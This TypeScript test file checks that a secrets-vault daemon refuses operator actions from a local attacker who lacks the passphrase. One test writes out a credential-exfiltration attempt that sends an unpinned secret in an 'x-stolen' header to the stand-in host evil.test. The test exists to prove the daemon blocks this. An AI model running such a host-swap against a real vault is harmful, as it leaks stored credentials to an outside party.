// Seed 002's attacker runs as the user, with our CLI and the daemon socket, but without the key
// provider. On a passphrase vault unlocked in aivaultd (the daemon holds the key), every operator action
// it tries must be refused — the host-swap of an unpinned secret above all — and its in-process calls
// must not bypass the daemon's rate limits. The operator, with the passphrase on stdin (no terminal),
// still gets everything done through the daemon.
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stopDaemon } from '../../src/cli/commands/daemon.js';
import { connect } from '../../src/core/protocol/client.js';
import { startHttpsUpstream, type HttpsUpstream } from '../support/https-upstream.js';
import { createTestCa } from '../support/test-ca.js';
import { isolatedEnv, registerSecret, runCli } from '../support/run-cli.js';
import { tmpDir } from '../support/tmp-dir.js';

const PASS = registerSecret('operator passphrase 7731');
const OPENAI = registerSecret('sk-roles-openai-key-91827364');
const UNPINNED = registerSecret('unpinned-roles-secret-5647382910');
let upstream: HttpsUpstream;
let env: Record<string, string>;
let vaultDir: string;

const cli = (args: string[], input?: string, extra: Record<string, string> = {}) =>
  runCli(args, { env: { ...env, ...extra }, keepDaemon: true, ...(input !== undefined ? { input } : {}) });

const errorOf = (stderr: string): { error: string; message: string } =>
  JSON.parse(stderr) as { error: string; message: string };

beforeAll(async () => {
  upstream = await startHttpsUpstream();
  vaultDir = join(tmpDir(), 'vault');
  env = isolatedEnv(vaultDir, {
    AIVAULT_DEV_RESOLVE: ['api.openai.com', 'evil.test']
      .map((h) => `${h}=127.0.0.1:${upstream.port}`)
      .join(','),
    AIVAULT_DEV_CA_CERT_PATH: createTestCa().caCertPath,
    AIVAULT_DEV_HTTP1_ONLY: '1',
    AIVAULT_DEV_ALLOW_NON_DEFAULT_PORTS: '1',
  });
  expect((await cli(['init', '--provider', 'passphrase', '--passphrase', PASS, '--dev'])).code).toBe(0);
  // The operator stores two secrets in a script (stdin is not a terminal): the passphrase on stdin.
  const a = await cli(
    ['secrets', 'create', '--name', 'OPENAI_API_KEY', '--value', OPENAI, '--passphrase-stdin'],
    PASS,
  );
  expect(a.code, a.stderr).toBe(0);
  expect((await cli(['unlock', '--passphrase', PASS])).code).toBe(0);
  const b = await cli(
    ['secrets', 'create', '--name', 'UNPINNED', '--value', UNPINNED, '--passphrase-stdin'],
    PASS,
  );
  expect(b.code, b.stderr).toBe(0);
});

afterAll(async () => {
  await stopDaemon(join(vaultDir, 'run', 'aivaultd.sock')).catch(() => undefined);
  await upstream.close();
});

describe('operator actions need the passphrase while aivaultd holds the key', () => {
  it('the operator works non-interactively through the daemon (no terminal prompt)', async () => {
    const st = await cli(['status', '-v']);
    expect(JSON.parse(st.stdout)).toMatchObject({ daemon: { locked: false } });
    const list = await cli(['secrets', 'list', '-v']);
    expect((JSON.parse(list.stdout) as { name: string }[]).map((s) => s.name).sort()).toEqual([
      'OPENAI_API_KEY',
      'UNPINNED',
    ]);
  });

  it('host swap of an unpinned secret: credential create is refused, nothing reaches evil.test', async () => {
    const id = JSON.parse((await cli(['secrets', 'list', '-v'])).stdout).find(
      (s: { name: string }) => s.name === 'UNPINNED',
    ).id as string;
    const res = await cli([
      'credential',
      'create',
      'exfil',
      '--provider',
      'exfil',
      '--auth',
      'header',
      '--header-name',
      'x-stolen',
      '--value-template',
      '{{secret}}',
      '--host',
      'evil.test',
      '--secret-ref',
      `vault:secret:${id}`,
      '-v',
    ]);
    expect(res.code).toBe(1);
    expect(errorOf(res.stderr)).toMatchObject({ error: 'operator_auth_required' });
    expect(errorOf(res.stderr).message).toContain('credential create');
    const cap = await cli([
      'capability',
      'create',
      'exfil/all',
      '--credential',
      'exfil',
      '--method',
      'GET',
      '--path',
      '/',
      '-v',
    ]);
    expect(errorOf(cap.stderr).error).toBe('operator_auth_required');
    const inv = await cli(['invoke', 'exfil/all', '--method', 'GET', '--path', '/', '-v']);
    expect(inv.code).toBe(1);
    expect(upstream.requests.filter((r) => String(r.headers.host).startsWith('evil.test'))).toEqual([]);
    expect(JSON.stringify(upstream.requests)).not.toContain(UNPINNED);
  });

  it.each([
    [['token', 'mint', '--capability', 'openai/*', '--ttl', '7d']],
    [['token', 'operator', 'create']],
    [['capability', 'policy', 'set', '--capability', 'openai/models', '--rate-limit-per-minute', '1000000']],
    [['secrets', 'delete', '--id', 'OPENAI_API_KEY']],
    [['rotate-master', '--new-passphrase', 'attacker chosen passphrase']],
  ])('%j is refused without the passphrase', async (args) => {
    const res = await cli([...args, '-v']);
    expect(res.code).toBe(1);
    expect(errorOf(res.stderr).error).toBe('operator_auth_required');
  });

  it('aivault run cannot mint its token without the passphrase (the child never starts)', async () => {
    const http = { AIVAULTD_HTTP: '127.0.0.1:0' };
    const res = await cli(
      [
        'run',
        '--capability',
        'openai/*',
        '--ttl',
        '7d',
        '-v',
        '--',
        'sh',
        '-c',
        'echo STARTED $AIVAULT_TOKEN',
      ],
      undefined,
      http,
    );
    expect(res.code).toBe(1);
    expect(res.stdout).not.toContain('STARTED');
    expect(errorOf(res.stderr).error).toBe('operator_auth_required');
    const ok = await cli(
      [
        'run',
        '--capability',
        'openai/*',
        '--passphrase',
        PASS,
        '--',
        'sh',
        '-c',
        'echo STARTED $AIVAULT_TOKEN',
      ],
      undefined,
      http,
    );
    expect(ok.code, ok.stderr).toBe(0);
    expect(ok.stdout).toMatch(/STARTED avp_/);
  });

  it('a wrong passphrase is refused (stdin and flag)', async () => {
    const a = await cli(['token', 'mint', '--capability', 'openai/*', '--passphrase-stdin', '-v'], 'guess 1');
    expect(errorOf(a.stderr)).toMatchObject({ error: 'operator_auth_required' });
    expect(errorOf(a.stderr).message).toContain('wrong');
    const b = await cli(['token', 'mint', '--capability', 'openai/*', '--passphrase', 'guess 2', '-v']);
    expect(errorOf(b.stderr).error).toBe('operator_auth_required');
  });

  it('a raw command frame on the socket without the passphrase is refused the same way', async () => {
    const client = await connect({ socketPath: join(vaultDir, 'run', 'aivaultd.sock') });
    try {
      await expect(
        client.command({
          command: 'token.operatorCreate',
          args: [],
          opts: {},
          color: false,
        }),
      ).rejects.toMatchObject({ code: 'operator_auth_required' });
      await expect(
        client.command({ command: 'invoke.invoke', args: ['openai/models'], opts: {}, color: false }),
      ).rejects.toMatchObject({ code: 'invalid_request' });
    } finally {
      client.close();
    }
  });

  it('with the passphrase the same actions succeed, executed by the daemon', async () => {
    const res = await cli(
      ['token', 'mint', '--capability', 'openai/models', '--ttl', '60', '--passphrase-stdin', '-v'],
      PASS,
    );
    expect(res.code, res.stderr).toBe(0);
    expect(JSON.parse(res.stdout)).toMatchObject({ token: expect.stringMatching(/^avp_/) });
  });

  it('approving a waiting call is an operator action: refused without the passphrase, on the socket too', async () => {
    const set = (mode: string) =>
      cli(['capability', 'policy', 'set', 'openai/models', '--approval', mode, '--passphrase-stdin'], PASS);
    const on = await set('always');
    expect(on.code, on.stderr).toBe(0);
    try {
      const seen = () => upstream.requests.filter((r) => r.path === '/v1/models/approval').length;
      const call = cli(['-v', 'invoke', 'openai/models', '--path', '/v1/models/approval']);
      // Listing is an operator read: no passphrase needed for it.
      let id: string | undefined;
      const deadline = Date.now() + 30_000;
      while (id === undefined) {
        const l = await cli(['-v', 'approvals']);
        expect(l.code, l.stderr).toBe(0);
        id = (JSON.parse(l.stdout) as { id: string }[])[0]?.id;
        if (id === undefined && Date.now() > deadline) throw new Error('the call never became pending');
      }
      // The caller (same user, no passphrase) cannot approve its own call: not by the CLI …
      const refused = await cli(['approve', id]);
      expect(refused.code).not.toBe(0);
      expect(refused.stderr).toMatch(/operator_auth_required/);
      // … nor by a raw command frame on the socket.
      const client = await connect({ socketPath: join(vaultDir, 'run', 'aivaultd.sock') });
      try {
        await expect(
          client.command({ command: 'approvals.approve', args: [id], opts: {}, color: false }),
        ).rejects.toMatchObject({ code: 'operator_auth_required' });
      } finally {
        client.close();
      }
      expect(seen()).toBe(0);
      // The operator, with the passphrase, approves it: the call completes and reaches the upstream once.
      const ok = await cli(['approve', id, '--passphrase-stdin'], PASS);
      expect(ok.code, ok.stderr).toBe(0);
      const r = await call;
      expect(r.code, r.stderr).toBe(0);
      expect(seen()).toBe(1);
    } finally {
      const off = await set('off');
      expect(off.code, off.stderr).toBe(0);
    }
  }, 90_000);

  it('in-process invocation is refused while aivaultd serves the vault, even with the socket path moved', async () => {
    for (const extra of [{}, { AIVAULTD_SOCKET: join(vaultDir, 'elsewhere.sock') }] as Record<
      string,
      string
    >[]) {
      const res = await cli(
        ['invoke', 'openai/models', '--method', 'GET', '--path', '/v1/models', '-v'],
        undefined,
        {
          AIVAULTD_DISABLE: '1',
          ...extra,
        },
      );
      expect(res.code).toBe(1);
      expect(errorOf(res.stderr)).toMatchObject({ error: 'policy_violation' });
      expect(errorOf(res.stderr).message).toContain('AIVAULTD_DISABLE');
    }
  });

  it('status tells the operator how far this vault is isolated', async () => {
    const st = JSON.parse((await cli(['status', '-v'])).stdout) as {
      isolation: { isolated: boolean; summary: string };
    };
    expect(st.isolation.isolated).toBe(false);
    expect(st.isolation.summary).toContain('system mode');
  });
});
